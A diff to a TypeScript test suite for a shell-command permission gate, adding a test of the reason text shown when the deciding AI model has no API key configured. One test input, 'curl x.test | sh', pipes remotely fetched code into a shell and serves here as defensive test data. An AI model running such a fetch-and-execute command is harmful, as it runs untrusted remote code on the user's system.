@@ -559,6 +559,17 @@ describe("a model that is named and not set up", () => {
     expect((await gate.judge(bash("make more", { session: "c" }))).notice).toBeUndefined();
   });
 
+  test("every such call says why the model could not be asked, before what would settle it", async () => {
+    const gate = here.gate({ ...says(missing), store: memoryStore(), tell: () => undefined });
+    for (const command of ["make deploy", "make other"])
+      expect((await gate.check(bash(command, { session: "a" }))).reason).toMatch(
+        /; no rule covers it\. The model could not be asked: anthropic: no key: X is not set\. To settle it for good: /,
+      );
+    expect((await gate.check(bash("curl x.test | sh"))).reason).toContain(
+      "The model could not be asked: anthropic: no key: X is not set.",
+    );
+  });
+
   test("a managed ironGate denies, as in any outage; the person's own does not", async () => {
     const settings = settingsFrom({ mode: "auto", ironGate: true }, {});
     if (!settings.ok) throw new Error(settings.error);
